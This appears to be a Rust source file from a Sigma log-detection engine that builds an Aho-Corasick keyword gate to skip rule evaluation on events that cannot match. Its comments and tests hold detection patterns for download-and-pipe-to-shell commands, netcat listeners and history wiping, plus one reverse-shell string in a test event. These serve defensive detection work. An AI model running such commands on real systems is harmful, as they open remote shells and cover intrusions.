//! Keyword gates: a rule that can only match when one of its keywords does is evaluated only
//! for events whose keyword fields hold, case-insensitively, a literal that keyword needs.
//!
//! rsigma indexes keyword rules itself, with an automaton per engine, but trusts no needle
//! of a keyword with an inner wildcard (`wget * - http* | sh`): in the SigmaHQ Linux pack
//! three rules written that way ran regex sets over `message` and `event.original` for
//! every Linux event, 17k of the 70k instructions an event cost. A keyword's longest plain
//! part is a substring of any text it matches, so one Aho-Corasick scan of the event's
//! keyword fields, for all keyword rules at once, tells which of them can match; each gated
//! rule has an engine of its own, evaluated only then. Measured with callgrind
//! (`examples/detect_stream`): 70k instructions per event before, 48k gating only the
//! wildcard rules, 40k gating every keyword list (the logsource groups' engines then have
//! no keyword automaton left to run), 38k with selectors and `'|all'` keywords gated too.
//!
//! The gate is sound by construction: a rule gets one only when each of its conditions needs
//! a keyword detection (the condition is that detection, an `and` with it, an `or` of such,
//! or a selector over such), and every keyword it counts on is an ASCII string with a plain
//! part of at least [`MIN_NEEDLE`] bytes. Anything else (numbers, negations, regexes,
//! `'@'`) leaves the rule to the engine, evaluated as before.

use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};
use rsigma_eval::event::Event as _;
use rsigma_parser::{
    ConditionExpr, Detection, Modifier, Quantifier, SigmaRule, SigmaValue, StringPart,
};

use crate::event::SigmaView;

/// Needles shorter than this would open the gate on nearly every event (`'@'`, `':'`): such a
/// rule is left to the engine.
const MIN_NEEDLE: usize = 3;

/// The literals a rule needs: it can match only if one of them occurs (ASCII lowercase).
pub(crate) fn needles(rule: &SigmaRule) -> Option<Vec<String>> {
    any_of(
        rule.detection
            .conditions
            .iter()
            .map(|c| condition_needles(rule, c)),
    )
}

/// Needles for alternatives of which one must hold: each must be gated, and any of their
/// needles opens the gate.
fn any_of(alternatives: impl IntoIterator<Item = Option<Vec<String>>>) -> Option<Vec<String>> {
    let mut all = Vec::new();
    for needles in alternatives {
        all.extend(needles?);
    }
    (!all.is_empty()).then_some(all)
}

/// Needles for conditions that must all hold: one gated condition gates the whole; the one
/// whose shortest needle is longest is likely the rarest.
fn all_of(conditions: impl IntoIterator<Item = Option<Vec<String>>>) -> Option<Vec<String>> {
    conditions
        .into_iter()
        .flatten()
        .max_by_key(|n| n.iter().map(String::len).min())
}

fn condition_needles(rule: &SigmaRule, expr: &ConditionExpr) -> Option<Vec<String>> {
    match expr {
        ConditionExpr::Identifier(name) => detection_needles(rule.detection.named.get(name)?),
        ConditionExpr::And(operands) => all_of(operands.iter().map(|o| condition_needles(rule, o))),
        ConditionExpr::Or(operands) => any_of(operands.iter().map(|o| condition_needles(rule, o))),
        ConditionExpr::Not(_) => None,
        ConditionExpr::Selector {
            quantifier,
            pattern,
        } => {
            // Sorted, so that a rule is gated the same way at every load.
            let mut selected: Vec<(&String, &Detection)> = rule
                .detection
                .named
                .iter()
                .filter(|(n, _)| pattern.matches_detection_name(n))
                .collect();
            selected.sort_by_key(|(n, _)| *n);
            if selected.is_empty() {
                return None;
            }
            let each = selected.into_iter().map(|(_, d)| detection_needles(d));
            match quantifier {
                Quantifier::All => all_of(each),
                Quantifier::Any => any_of(each),
                Quantifier::Count(n) if *n >= 1 => any_of(each),
                Quantifier::Count(_) => None,
            }
        }
    }
}

/// Needles of a named detection that searches keywords: a plain list (any keyword), a map of
/// field-less items (all items; an item's values are alternatives, or all needed under
/// `|all`), or an and / or of such. Field detections are left to the engine's own index.
fn detection_needles(detection: &Detection) -> Option<Vec<String>> {
    match detection {
        Detection::Keywords(values) => {
            any_of(values.iter().map(|v| keyword_needle(v).map(|n| vec![n])))
        }
        Detection::AllOf(items) if items.iter().all(|i| i.field.name.is_none()) => {
            all_of(items.iter().map(|item| {
                let mods = &item.field.modifiers;
                if !mods
                    .iter()
                    .all(|m| matches!(m, Modifier::All | Modifier::Cased))
                {
                    return None;
                }
                let each = item
                    .values
                    .iter()
                    .map(|v| keyword_needle(v).map(|n| vec![n]));
                if mods.contains(&Modifier::All) {
                    all_of(each)
                } else {
                    any_of(each)
                }
            }))
        }
        // `rewrite` turns `'|all'` keywords into an `And` of keyword lists.
        Detection::And(subs) => all_of(subs.iter().map(detection_needles)),
        Detection::AnyOf(subs) => any_of(subs.iter().map(detection_needles)),
        _ => None,
    }
}

/// The longest plain part of a keyword, lowercased; `None` when the keyword is not a string,
/// is not ASCII (Unicode case folding is left to the engine), or has no plain part of
/// [`MIN_NEEDLE`] bytes.
fn keyword_needle(value: &SigmaValue) -> Option<String> {
    let SigmaValue::String(s) = value else {
        return None;
    };
    let longest = s
        .parts
        .iter()
        .filter_map(|p| match p {
            StringPart::Plain(text) => Some(text.as_str()),
            StringPart::Special(_) => None,
        })
        .max_by_key(|t| t.len())?;
    (longest.len() >= MIN_NEEDLE && longest.is_ascii()).then(|| longest.to_ascii_lowercase())
}

/// One automaton over the needles of every gated rule.
pub(crate) struct Gate {
    /// `None` if the automaton could not be built (too many states): then every gated rule is
    /// evaluated, as if the gate were not there.
    automaton: Option<AhoCorasick>,
    /// Needle index -> the gated group it opens.
    owner: Vec<usize>,
    /// Number of gated groups.
    groups: usize,
}

impl Gate {
    /// A gate over `(group index, needles)` pairs, the group indexes `0..gated.len()`.
    pub(crate) fn build(gated: &[(usize, Vec<String>)]) -> Self {
        let mut owner = Vec::new();
        let mut patterns: Vec<&str> = Vec::new();
        for (group, needles) in gated {
            for n in needles {
                owner.push(*group);
                patterns.push(n);
            }
        }
        let build = |kind| {
            AhoCorasick::builder()
                .match_kind(MatchKind::Standard)
                .ascii_case_insensitive(true)
                .kind(kind)
                .build(&patterns)
        };
        let automaton = build(Some(AhoCorasickKind::DFA))
            .or_else(|_| build(None))
            .ok();
        Self {
            automaton,
            owner,
            groups: gated.len(),
        }
    }

    /// The gated groups `view`'s keyword fields open, sorted, without repeats.
    pub(crate) fn open(&self, view: &SigmaView<'_>) -> Vec<usize> {
        let Some(automaton) = &self.automaton else {
            return (0..self.groups).collect();
        };
        let mut open = Vec::new();
        view.visit_string_values(&mut |s| {
            let folded;
            let haystack = if s.is_ascii() {
                s
            } else {
                folded = s.to_lowercase();
                folded.as_str()
            };
            for m in automaton.find_overlapping_iter(haystack) {
                open.push(self.owner[m.pattern().as_usize()]);
            }
        });
        open.sort_unstable();
        open.dedup();
        open
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rsigma_parser::parse_sigma_yaml;

    fn rule(detection: &str) -> SigmaRule {
        let text = format!("title: t\nlogsource: {{product: linux}}\ndetection:\n{detection}");
        let mut rule = parse_sigma_yaml(&text)
            .expect("parses")
            .rules
            .into_iter()
            .next()
            .expect("one rule");
        // As the router sees rules.
        crate::rewrite::rewrite(&mut rule);
        rule
    }

    #[test]
    fn wildcard_keywords_need_their_longest_plain_part() {
        let r = rule(
            "  keywords: ['wget * - http* | SH', 'chattr +i*sh_history']\n  condition: keywords\n",
        );
        assert_eq!(
            needles(&r),
            Some(vec![" - http".to_owned(), "sh_history".to_owned()])
        );
    }

    #[test]
    fn conditions_that_need_keywords_are_gated() {
        let and = rule("  keywords: ['curl*|*sh']\n  filter: {user: root}\n  condition: keywords and not filter\n");
        assert_eq!(needles(&and), Some(vec!["curl".to_owned()]));
        let or = rule("  a: ['a*lpha']\n  b: ['beta*gamma']\n  condition: a or b\n");
        assert_eq!(
            needles(&or),
            Some(vec!["lpha".to_owned(), "gamma".to_owned()])
        );
    }

    #[test]
    fn the_and_operand_with_the_longest_shortest_needle_gates() {
        // SigmaHQ's "Remote File Copy": the tools, not the '@' and ':' of the filter.
        let r = rule(
            "  tools: ['scp ', 'rsync ']\n  filter: ['@', ':']\n  condition: tools and filter\n",
        );
        assert_eq!(
            needles(&r),
            Some(vec!["scp ".to_owned(), "rsync ".to_owned()])
        );
        let short = rule("  filter: ['@', ':']\n  condition: filter\n");
        assert_eq!(needles(&short), None);
    }

    #[test]
    fn selectors_and_all_modifiers_are_gated() {
        // SigmaHQ's "Privileged User Has Been Created": `all of selection_*`.
        let all = rule("  selection_new: ['new user']\n  selection_ids: ['UID=0,', 'GID=0,']\n  condition: all of selection_*\n");
        assert_eq!(needles(&all), Some(vec!["new user".to_owned()]));
        let any = rule("  sel_a: ['alpha']\n  sel_b: ['beta']\n  other: {user: root}\n  condition: 1 of sel_* and other\n");
        assert_eq!(
            needles(&any),
            Some(vec!["alpha".to_owned(), "beta".to_owned()])
        );
        let them = rule("  a: ['alpha']\n  b: {user: root}\n  condition: 1 of them\n");
        assert_eq!(needles(&them), None);
        // `|all`: every value is needed, so the longest one alone gates.
        let every = rule(
            "  keywords:\n    '|all': ['bash -c /bin/bash', '&/dev/tcp/']\n  condition: keywords\n",
        );
        assert_eq!(needles(&every), Some(vec!["bash -c /bin/bash".to_owned()]));
        let regex = rule("  keywords:\n    '|re': ['a.*b']\n  condition: keywords\n");
        assert_eq!(needles(&regex), None);
    }

    #[test]
    fn the_gate_opens_the_groups_whose_needles_occur() {
        let gate = Gate::build(&[
            (0, vec!["history -c".to_owned()]),
            (1, vec!["/dev/tcp/".to_owned(), "nc -l".to_owned()]),
        ]);
        let event = serde_json::json!({"message": "bash -i >& /DEV/TCP/10.0.0.1/4444; history -c"});
        let map = event.as_object().expect("object");
        assert_eq!(gate.open(&SigmaView::from_map(map)), vec![0, 1]);
        let quiet = serde_json::json!({"message": "session opened for user root"});
        let map = quiet.as_object().expect("object");
        assert!(gate.open(&SigmaView::from_map(map)).is_empty());
        // Without its automaton, the gate lets every gated rule through.
        let broken = Gate {
            automaton: None,
            owner: Vec::new(),
            groups: 2,
        };
        assert_eq!(broken.open(&SigmaView::from_map(map)), vec![0, 1]);
    }

    #[test]
    fn anything_else_is_not_gated() {
        let field = rule("  sel: {CommandLine|contains: curl}\n  condition: sel\n");
        assert_eq!(needles(&field), None);
        let or_field = rule("  a: ['al*pha']\n  sel: {user: root}\n  condition: a or sel\n");
        assert_eq!(needles(&or_field), None);
        let not = rule("  a: ['al*pha']\n  condition: not a\n");
        assert_eq!(needles(&not), None);
        let star = rule("  a: ['al*pha', '*']\n  condition: a\n");
        assert_eq!(needles(&star), None);
        let number = rule("  a: ['al*pha', 42]\n  condition: a\n");
        assert_eq!(needles(&number), None);
    }
}
